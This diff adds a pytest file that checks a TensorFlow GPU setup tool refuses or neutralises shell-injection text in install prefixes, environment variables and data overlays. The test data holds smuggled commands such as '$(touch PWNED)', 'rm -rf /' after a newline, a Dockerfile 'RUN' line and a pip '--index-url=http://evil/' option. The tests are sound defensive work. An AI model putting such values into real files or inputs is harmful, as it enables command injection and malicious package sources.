@@ -1,0 +1,148 @@
+"""Data never becomes code: a path, a name or a data table's text that reaches an activation
+script, an export or a uv argument stays data."""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import subprocess
+import sys
+from importlib.resources import files
+
+import pytest
+import yaml
+
+from .conftest import changed, snapshot
+
+UNSAFE_PREFIXES = {
+    "command-substitution": "x/$(touch PWNED)",
+    "backticks": "x/`touch PWNED`",
+    "double-quote": 'x/a"b',
+    "variable": "x/$HOME",
+    "backslash": "x/a\\b",
+    "newline": "x/a\nb",
+    "tab": "x/a\tb",
+    "bang": "x/a!b",
+    "escape-sequence": "x/\x1b[31mred",
+}
+
+
+@pytest.mark.parametrize("text", UNSAFE_PREFIXES.values(), ids=list(UNSAFE_PREFIXES))
+@pytest.mark.parametrize("command", ["create", "remove", "doctor", "verify"])
+def test_unsafe_prefix_text_is_refused_before_anything_runs(cli, sandbox, text, command, local_wheels):
+    before = snapshot(sandbox)
+    argv = {"create": ["create", "--tf", "2.21", "--mode", "pip", "--no-verify", "--find-links", str(local_wheels),
+                       "--offline"], "remove": ["remove"], "doctor": ["doctor"], "verify": ["verify"]}[command]
+    done = cli(*argv, "--prefix", str(sandbox / text), "--json")
+    assert (done.code, done.error) == (2, "bad-prefix")
+    assert changed(before, snapshot(sandbox), allowed=("logs", "cache")) == []
+
+
+def test_a_prefix_that_is_not_utf8_is_refused(tool, sandbox):
+    raw = os.fsencode(str(sandbox)) + b"/caf\xe9"
+    done = subprocess.run([sys.executable, "-m", "tfgpu", "create", "--tf", "2.21", "--prefix", raw, "--no-verify",
+                           "--json"], capture_output=True, cwd=sandbox, env=os.environ)
+    assert done.returncode == 2 and json.loads(done.stdout)["error"]["code"] == "bad-prefix"
+    assert b"Traceback" not in done.stderr and not (sandbox / "caf\udce9").exists()
+
+
+def test_tfgpu_envs_dir_with_shell_text_is_refused(cli, sandbox):
+    done = cli("create", "--tf", "2.21", "--name", "tf", "--no-verify", "--json",
+               env={"TFGPU_ENVS_DIR": str(sandbox / "$(touch PWNED)")})
+    assert (done.code, done.error) == (2, "bad-prefix")
+
+
+@pytest.mark.parametrize("prefix", ["-leading-dash", "it's a dir", "sp ace", "uni\u00e7ode", "x=y,z@w+%~"])
+def test_odd_but_safe_prefixes_build_and_activate_cleanly(build, sandbox, prefix):
+    """The prompt is the tool's own label, passed as --prompt=...: a leading '-' is no uv option and
+    a quote cannot break the activate script."""
+    target = sandbox / prefix
+    done = build(target)
+    assert done.code == 0, done.out + done.err
+    for shell in ("bash", "zsh"):
+        if subprocess.run(["which", shell], capture_output=True).returncode:
+            continue
+        ran = subprocess.run([shell, "-c", 'source "$1/bin/activate" && printf "%s|%s" "$VIRTUAL_ENV_PROMPT" "$VIRTUAL_ENV"',
+                              "x", str(target)], capture_output=True, text=True, cwd=sandbox)
+        assert ran.returncode == 0, ran.stderr
+        label, env = ran.stdout.split("|")
+        assert re.fullmatch(r"\(?[A-Za-z0-9._-]+\)? ?", label), label
+        assert env == str(target)
+
+
+# --- data overlays (a team mirror) reaching generated files -----------------------------------
+
+FORMATS = ["bash", "dockerfile", "ansible", "cloud-init"]
+
+
+def _overlay(sandbox, name: str, edit) -> str:
+    directory = sandbox / "overlay"
+    directory.mkdir(exist_ok=True)
+    text = files("tfgpu.data").joinpath(name).read_text(encoding="utf-8")
+    (directory / name).write_text(edit(text), encoding="utf-8")
+    return str(directory)
+
+
+def _script(cli, sandbox, fmt: str, overlay: str, *extra: str):
+    out = sandbox / "out"
+    return cli("script", "--tf", "2.16.1", "--format", fmt, "-o", str(out), "--no-detect", "--json", *extra,
+               env={"TFGPU_DATA_DIR": overlay}), out
+
+
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_a_newline_in_a_quirk_message_is_refused(cli, sandbox, fmt):
+    overlay = _overlay(sandbox, "quirks.toml", lambda t: t.replace('message = "', 'message = "x\\nrm -rf / #', 1))
+    done, out = _script(cli, sandbox, fmt, overlay)
+    assert (done.code, done.error) == (2, "bad-data") and "quirks.toml" in done.out and not out.exists()
+
+
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_shell_text_in_data_stays_a_comment(cli, sandbox, fmt):
+    """A one-line quirk message with ``$(touch PWNED)`` is valid data: it must reach the files only
+    as comment text (or a quoted string), never as something that runs."""
+    overlay = _overlay(sandbox, "quirks.toml", lambda t: t.replace('message = "', 'message = "$(touch PWNED) `touch PWNED` ', ))
+    done, out = _script(cli, sandbox, fmt, overlay)
+    assert done.code == 0, done.out
+    paths = [out] if out.is_file() else [p for p in out.rglob("*") if p.is_file()]
+    for path in paths:
+        text = path.read_text()
+        for line in text.splitlines():
+            if "PWNED" in line:
+                assert line.lstrip().startswith("#"), (path.name, line)
+        if path.suffix in (".yml", ".yaml"):
+            yaml.safe_load(text)
+        if path.suffix == ".sh" or path.name == "out" and fmt == "bash":
+            subprocess.run(["bash", "-n", str(path)], check=True)
+    if fmt == "bash":  # run the header part for real: nothing in a comment runs
+        head = out.read_text().split("set -euo pipefail")[0]
+        subprocess.run(["bash", "-c", head], check=True, cwd=sandbox)
+
+
+def test_a_docker_tag_with_a_run_line_is_refused(cli, sandbox):
+    overlay = _overlay(sandbox, "docker_images.toml", lambda t: re.sub(r'^tag = "(.*)"$', r'tag = "\1\\nRUN touch PWNED"', t,
+                                                                        count=0, flags=re.M))
+    done, out = _script(cli, sandbox, "dockerfile", overlay, "--mode", "system", "--tf", "2.13")
+    assert (done.code, done.error) == (2, "bad-data") and not out.exists()
+
+
+def test_a_docker_tag_with_a_space_is_refused(cli, sandbox):
+    overlay = _overlay(sandbox, "docker_images.toml", lambda t: re.sub(r'^tag = "(.*)"$', r'tag = "\1 AS x"', t, flags=re.M))
+    done, out = _script(cli, sandbox, "dockerfile", overlay, "--mode", "system", "--tf", "2.13")
+    assert (done.code, done.error) == (2, "bad-data")
+
+
+@pytest.mark.parametrize("table,edit", [
+    ("pip_cuda.toml", lambda t: t.replace('"nvidia-cuda-runtime-cu11', '"nvidia-cuda-runtime-cu11==1\\n--index-url=http://evil/ #', 1)),
+    ("pip_cuda.toml", lambda t: t.replace('"nvidia-cuda-runtime-cu11', '"--index-url=http://evil/simple nvidia-cuda-runtime-cu11', 1)),
+    ("cuda.toml", lambda t: t.replace('linux = "525.60.13"', 'linux = "525.60.13$(touch PWNED)"', 1)),
+    ("cuda.toml", lambda t: t.replace('runfile_url = "https://', 'runfile_url = "https://x y/', 1)),
+    ("tensorflow.toml", lambda t: t.replace('version = "2.13.1"', 'version = "2.13.1;touch PWNED"', 1)),
+    ("conda_forge.toml", lambda t: t.replace('versions = ["', 'versions = ["11.8 ; touch PWNED", "', 1)),
+    ("log_signatures.toml", lambda t: t.replace("pattern = '", "pattern = '(unclosed", 1)),
+], ids=["requirement-newline", "requirement-option", "driver-shell", "url-space", "version-shell", "conda-version",
+        "bad-regex"])
+def test_malformed_values_in_a_data_overlay_are_bad_data(cli, sandbox, table, edit):
+    overlay = _overlay(sandbox, table, edit)
+    done = cli("plan", "--tf", "2.13", "--no-detect", "--json", env={"TFGPU_DATA_DIR": overlay})
+    assert (done.code, done.error) == (2, "bad-data") and table in done.out
